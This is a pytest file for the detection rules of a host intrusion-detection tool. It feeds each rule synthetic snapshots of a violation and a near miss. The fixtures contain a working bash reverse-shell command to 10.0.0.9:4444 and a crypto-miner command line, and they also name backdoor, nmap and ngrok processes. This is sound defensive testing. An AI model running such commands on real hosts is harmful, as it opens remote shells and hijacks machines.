@@ -1,0 +1,311 @@
+"""Every builtin fires on its violation with the right subject and severity, and stays
+quiet on a near miss; the benign corpus stays quiet."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from datetime import timedelta
+
+import pytest
+
+from kefal_lite.detect import corpus
+from kefal_lite.detect.builtins import BUILTINS
+from kefal_lite.detect.engine import Catalog, evaluate, is_loopback, norm_name
+from kefal_lite.detect.model import SEVERITY_RANK, Finding
+from kefal_lite.detect.state import HostState, dumps, loads
+from kefal_lite.snapshot import Snapshot
+from tests.builders import BASE_USERS, proc, snap
+
+CATALOG = Catalog(BUILTINS)
+
+
+def run(snapshots: list[Snapshot], skew: timedelta = timedelta(seconds=2)) -> list[Finding]:
+    """Evaluate a sequence; return the findings of the last snapshot."""
+    state = HostState()
+    findings: list[Finding] = []
+    for s in snapshots:
+        findings, state = evaluate(s, state, CATALOG, s.timestamp + skew)
+    return findings
+
+
+def learned(n: int = 3, **fields: object) -> list[Snapshot]:
+    """n learning snapshots of the base host (with `fields`)."""
+    return [snap(i, **fields) for i in range(n)]  # type: ignore[arg-type]
+
+
+def _users(*extra: dict[str, object]) -> list[dict[str, object]]:
+    return [*BASE_USERS, *extra]
+
+
+KEY_ROOT = {"user": "root", "fingerprint": "SHA256:rootkey", "comment": "evil"}
+KEY_ALICE = {"user": "alice", "fingerprint": "SHA256:aaaa", "comment": "a@l"}
+KEY_ALICE2 = {"user": "alice", "fingerprint": "SHA256:bbbb", "comment": "new"}
+OUT = {"protocol": "tcp", "local_port": 40000, "remote_address": "1.2.3.4", "remote_port": 443,
+       "process": "curl", "state": "ESTABLISHED"}  # fmt: skip
+OUT_NEW = {**OUT, "remote_port": 4444, "process": "python3"}
+INBOUND = {**OUT, "local_port": 80, "remote_port": 51234, "process": "nginx"}
+
+# invariant -> (violating sequence, subject, severity, near-miss sequence)
+Case = tuple[Callable[[], list[Snapshot]], str, str, Callable[[], list[Snapshot]]]
+CASES: dict[str, Case] = {
+    "database_exposed": (
+        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "0.0.0.0"}])],
+        "port:5432/tcp", "critical",
+        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "127.0.0.1"}])],
+    ),
+    "control_plane_exposed": (
+        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::"}])],
+        "port:2375/tcp", "critical",
+        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::1"}])],
+    ),
+    "cleartext_remote_access": (
+        lambda: [snap(add_ports=[{"port": 23, "process": "telnetd", "address": "127.0.0.1"}])],
+        "port:23/tcp", "high",
+        lambda: [snap(add_ports=[{"port": 2323, "process": "telnetd", "address": "0.0.0.0"}])],
+    ),
+    "remote_desktop_exposed": (
+        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "192.168.1.20"}])],
+        "port:5901/tcp", "high",
+        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "127.0.0.1"}])],
+    ),
+    "ssh_port_masquerade": (
+        lambda: [snap(listening_ports=[{"port": 22, "process": "nc", "address": "0.0.0.0"}])],
+        "port:22/tcp", "high",
+        lambda: [snap(listening_ports=[{"port": 22, "process": "dropbear", "address": "0.0.0.0"}])],
+    ),
+    "database_running_as_root": (
+        lambda: [snap(add_processes=[proc("postgres", "root")])], "process:postgres", "high",
+        lambda: [snap(add_processes=[proc("postgres", "postgres")])],
+    ),
+    "root_process_in_writable_path": (
+        lambda: [snap(add_processes=[proc("updater", "root", exe="/home/alice/.cache/updater")])],
+        "process:updater", "critical",
+        # /tmp only in an argument, the binary itself is a system one
+        lambda: [snap(add_processes=[proc("python3", "root", exe="/usr/bin/python3.11",
+                                          cmdline="python3 /tmp/build.py")])],
+    ),
+    "uid0_duplicate": (
+        lambda: [snap(users=_users({"name": "toor", "uid": 0, "groups": [], "shell": "/bin/sh"}))],
+        "user:toor", "critical",
+        lambda: [snap(users=_users({"name": "toor", "uid": 1001, "groups": [], "shell": "/bin/sh"}))],
+    ),
+    "new_admin_account": (
+        lambda: [*learned(), snap(3, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))],
+        "user:bob", "high",
+        lambda: [snap(i, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))
+                 for i in range(4)],
+    ),
+    "process_in_suspicious_path": (
+        lambda: [snap(add_processes=[proc(".x", "www-data", exe="/dev/shm/.x")])],
+        "process:.x", "high",
+        lambda: [snap(add_processes=[proc("python3", "www-data", exe="/usr/bin/python3",
+                                          cmdline="python3 /tmp/job.py")])],
+    ),
+    "crypto_miner": (
+        lambda: [snap(add_processes=[proc("kworkerds", "www-data", exe="/usr/bin/kworkerds",
+                                          cmdline="./kworkerds -o stratum+tcp://pool.example:3333")])],
+        "process:kworkerds", "critical",
+        lambda: [snap(add_processes=[proc("xmrig-docs", "alice", cmdline="less xmrig.md")])],
+    ),
+    "reverse_shell": (
+        lambda: [snap(add_processes=[proc("bash", "www-data", cmdline="bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1")])],
+        "process:bash", "critical",
+        lambda: [snap(add_processes=[proc("nc", "alice", cmdline="nc -z db.lan 5432")])],
+    ),
+    "shell_listening": (
+        lambda: [snap(add_ports=[{"port": 4444, "process": "bash", "address": "0.0.0.0"}])],
+        "port:4444/tcp", "critical",
+        lambda: [snap(add_processes=[proc("bash", "alice")])],
+    ),
+    "offensive_tool_running": (
+        lambda: [snap(add_processes=[proc("NMAP", "alice")])], "process:nmap", "high",
+        lambda: [snap(add_processes=[proc("nmapper", "alice")])],
+    ),
+    "tunneling_tool_running": (
+        lambda: [snap(add_processes=[proc("ngrok.exe", "alice")])], "process:ngrok", "medium",
+        lambda: [snap(add_processes=[proc("ngrokd-docs", "alice")])],
+    ),
+    "deleted_binary_running": (
+        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/app/bin/app (deleted)")])],
+        "process:app", "high",
+        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/deleted/app")])],
+    ),
+    "kernel_thread_masquerade": (
+        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe="/var/tmp/.k")])],
+        "process:[kworker/0:2]", "high",
+        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe=None, ppid=2)])],
+    ),
+    "root_login": (
+        lambda: [snap(logged_in_users=["alice", "root"])], "user:root", "medium",
+        lambda: [snap(logged_in_users=["alice"])],
+    ),
+    "new_login_user": (
+        lambda: [*learned(), snap(3, logged_in_users=["alice", "mallory"])], "user:mallory", "high",
+        lambda: [snap(i, logged_in_users=["alice", "mallory"]) for i in range(4)],
+    ),
+    "new_ssh_authorized_key": (
+        lambda: [*learned(), snap(3, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT])],
+        "key:root:SHA256:rootkey", "critical",
+        lambda: [snap(i, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT]) for i in range(4)],
+    ),
+    "system_account_login": (
+        lambda: [snap(logged_in_users=["www-data"])], "user:www-data", "high",
+        lambda: [snap(logged_in_users=["root", "alice"])],
+    ),
+    "new_listening_port": (
+        lambda: [*learned(), snap(3, add_ports=[{"port": 8081, "process": "nginx", "address": "0.0.0.0"}])],
+        "port:8081/tcp", "medium",
+        lambda: [snap(i, add_ports=[{"port": 8081, "process": "nginx", "address": "0.0.0.0"}]) for i in range(4)],
+    ),
+    "new_listening_process": (
+        lambda: [*learned(), snap(3, add_ports=[{"port": 9999, "process": "socat", "address": "127.0.0.1"}])],
+        "process:socat", "medium",
+        lambda: [snap(i, add_ports=[{"port": 9999, "process": "socat", "address": "127.0.0.1"}]) for i in range(4)],
+    ),
+    "new_root_process": (
+        lambda: [*learned(), snap(3, add_processes=[proc("backdoor", "root")])], "process:backdoor", "medium",
+        # a renamed kernel thread is not a new program
+        lambda: [*learned(), snap(3, add_processes=[proc("kworker/1:3-mm", "root", exe=None, ppid=2)])],
+    ),
+    "novel_outbound_connection": (
+        lambda: [*learned(connections=[OUT]), snap(3, connections=[OUT, OUT_NEW])],
+        "peer:python3:4444", "medium",
+        lambda: [*learned(connections=[OUT]), snap(3, connections=[OUT, INBOUND])],
+    ),
+    "snapshot_replay": (
+        lambda: [snap(5), snap(2)], "timestamp", "high",
+        lambda: [snap(2), snap(5)],
+    ),
+    "clock_skew": (
+        lambda: [snap(0)], "clock", "low",
+        lambda: [snap(0)],
+    ),
+    "host_rebooted": (
+        lambda: [snap(0), snap(1, uptime_seconds=90, kernel="6.8.0-50-generic")],
+        "boot:2026-11-02T08:59", "low",
+        lambda: [snap(0), snap(1)],
+    ),
+    "security_tool_stopped": (
+        lambda: [snap(0, add_processes=[proc("auditd")]), snap(1)], "process:auditd", "high",
+        lambda: [snap(0), snap(1), snap(2, add_processes=[proc("auditd")])],
+    ),
+    "sustained_high_cpu": (
+        lambda: [snap(i, add_processes=[proc("python3", "alice", cpu=97.0)]) for i in range(3)],
+        "process:python3", "medium",
+        lambda: [snap(0, add_processes=[proc("python3", "alice", cpu=97.0)]),
+                 snap(1, add_processes=[proc("python3", "alice", cpu=97.0)]),
+                 snap(2, add_processes=[proc("python3", "alice", cpu=12.0)])],
+    ),
+    "process_count_spike": (
+        lambda: [*[snap(i, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])
+                   for i in range(3)],
+                 snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(80)])],
+        "processes", "medium",
+        # baseline of 6 processes is under min_baseline 20: x3 growth is normal here
+        lambda: [*learned(), snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])],
+    ),
+}  # fmt: skip
+
+SKEW = {"clock_skew": (timedelta(minutes=-10), timedelta(minutes=-4))}
+
+
+def _for(invariant_id: str, findings: list[Finding]) -> list[Finding]:
+    return [f for f in findings if f.invariant_id == invariant_id]
+
+
+def test_every_builtin_but_the_timer_has_a_case() -> None:
+    assert set(CASES) | {"agent_silent"} == {inv.id for inv in BUILTINS}
+
+
+@pytest.mark.parametrize("invariant_id", sorted(CASES))
+def test_builtin_fires_on_its_violation(invariant_id: str) -> None:
+    violating, subject, severity, _ = CASES[invariant_id]
+    skew = SKEW.get(invariant_id, (timedelta(seconds=2),))[0]
+    hits = _for(invariant_id, run(violating(), skew))
+    assert [(f.subject, f.severity) for f in hits] == [(subject, severity)]
+    assert hits[0].evidence and hits[0].title
+
+
+@pytest.mark.parametrize("invariant_id", sorted(CASES))
+def test_builtin_stays_quiet_on_a_near_miss(invariant_id: str) -> None:
+    _, _, _, near = CASES[invariant_id]
+    skew = SKEW.get(invariant_id, (None, timedelta(seconds=2)))[1]
+    assert _for(invariant_id, run(near(), skew)) == []
+
+
+def test_authorized_key_for_a_plain_user_is_high() -> None:
+    hits = _for("new_ssh_authorized_key", run([*learned(), snap(3, ssh_authorized_keys=[KEY_ALICE, KEY_ALICE2])]))
+    assert [(f.subject, f.severity) for f in hits] == [("key:alice:SHA256:bbbb", "high")]
+    assert hits[0].evidence["comment"] == "new"
+
+
+def test_novelty_is_silent_during_learning_and_fires_once() -> None:
+    seq = [snap(0), snap(1, logged_in_users=["alice", "eve"])]
+    assert _for("new_login_user", run(seq)) == []  # still learning
+    seq = [*learned(), snap(3, logged_in_users=["eve"]), snap(4, logged_in_users=["eve"])]
+    assert _for("new_login_user", run(seq)) == []  # eve is in the baseline after the first sight
+
+
+def test_reboot_notes_the_kernel_change() -> None:
+    [hit] = _for("host_rebooted", run([snap(0), snap(1, uptime_seconds=90, kernel="6.8.0-50-generic")]))
+    assert hit.evidence["kernel_changed"] is True and hit.evidence["previous_kernel"] == "6.8.0-49-generic"
+    assert "6.8.0-50-generic" in hit.title
+
+
+def test_replayed_snapshot_does_not_also_count_as_a_reboot() -> None:
+    findings = run([snap(5), snap(2)])
+    assert _for("host_rebooted", findings) == []
+
+
+def test_seed_only_snapshot_is_evaluated_without_optional_fields() -> None:
+    import msgspec
+
+    seed = msgspec.json.decode(
+        b'{"agent_id":"a","timestamp":"2026-04-21T10:00:00Z","hostname":"web-01","os":"linux",'
+        b'"kernel":"6.8.0-41-generic","uptime_seconds":1234567,"ip_addresses":["192.168.1.5"],'
+        b'"processes":[{"pid":1234,"name":"nginx","user":"www-data","cpu_percent":0.2},'
+        b'{"pid":1235,"name":"postgres","user":"root","cpu_percent":1.1}],'
+        b'"listening_ports":[{"port":80,"protocol":"tcp","process":"nginx"},'
+        b'{"port":5432,"protocol":"tcp","process":"postgres"}],"logged_in_users":["alice"]}',
+        type=Snapshot,
+    )
+    findings = run([seed])
+    # no bind address: exposure is unknown, so database_exposed does not guess
+    assert {f.invariant_id for f in findings} == {"database_running_as_root"}
+
+
+def test_state_survives_a_round_trip() -> None:
+    state = HostState()
+    for s in learned(4, logged_in_users=["alice", "bob"]):
+        _, state = evaluate(s, state, CATALOG, s.timestamp)
+    again = loads(dumps(state))
+    assert again == state and again.seen == 4
+    assert "bob" in again.baselines["logged_in_users"]
+
+
+@pytest.mark.parametrize("address, expected", [
+    ("0.0.0.0", False), ("::", False), ("*", False), ("192.168.1.5", False),
+    ("127.0.0.1", True), ("127.0.0.53", True), ("::1", True), ("[::1]", True),
+    ("::ffff:127.0.0.1", True), (None, None), ("", None),
+])  # fmt: skip
+def test_loopback(address: str | None, expected: bool | None) -> None:
+    assert is_loopback(address) is expected
+
+
+def test_names_normalise() -> None:
+    assert norm_name("XMRig.EXE") == "xmrig" and norm_name("sshd") == "sshd"
+
+
+def test_benign_corpus_stays_quiet_after_learning() -> None:
+    hosts = corpus.load()
+    assert len(hosts) >= 8
+    for name, snapshots in hosts.items():
+        assert len(snapshots) >= 4, name
+        assert max(len(s.processes) for s in snapshots) >= 50, name
+        state = HostState()
+        low = 0
+        for s in snapshots:
+            findings, state = evaluate(s, state, CATALOG, s.timestamp + timedelta(seconds=3))
+            assert all(SEVERITY_RANK[f.severity] < SEVERITY_RANK["medium"] for f in findings), (name, findings)
+            low += len(findings)
+        assert low <= 1, name
